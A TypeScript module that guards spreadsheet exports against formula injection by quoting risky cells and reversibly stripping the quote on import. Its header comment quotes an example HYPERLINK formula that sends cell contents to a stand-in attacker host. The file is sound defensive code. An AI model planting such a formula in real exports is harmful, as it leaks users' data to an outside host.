/**
 * Cells a spreadsheet would run. Excel, WPS and LibreOffice take a cell whose text starts with = + - @ as a formula,
 * even in a CSV file (and a leading tab or carriage return can hide one), so a name like
 * `=HYPERLINK("https://evil.example/?x="&A1,"…")` turns into a live link when a scholar opens an export. Such a cell
 * is written with a `'` in front, as OWASP advises; spreadsheets show it as text.
 *
 * The importer takes exactly that `'` off again, so an unedited export reads back as it was. For that the rule must
 * be undone without guessing: a value that already starts with quotes before a formula character gets one more
 * (`'=x` is written `''=x`), and a cell loses its first quote only when, quotes aside, it would run as a formula.
 * Plain numbers (`-5`, `+3.25`) are data, not formulas, and are written as they are.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/** Whether the text, once any leading quotes are set aside, would run as a formula. */
function isGuarded(text: string): boolean {
  const unquoted = text.replace(/^'+/, '');
  return FORMULA_START.test(unquoted) && !PLAIN_NUMBER.test(unquoted);
}

/** The cell to write for `value`: with a `'` in front when a spreadsheet would otherwise run it. */
export function neutraliseFormulaCell(value: string): string {
  return isGuarded(value) ? `'${value}` : value;
}

/** The value `neutraliseFormulaCell` wrote as `cell`. */
export function restoreFormulaCell(cell: string): string {
  return cell.startsWith("'") && isGuarded(cell) ? cell.slice(1) : cell;
}
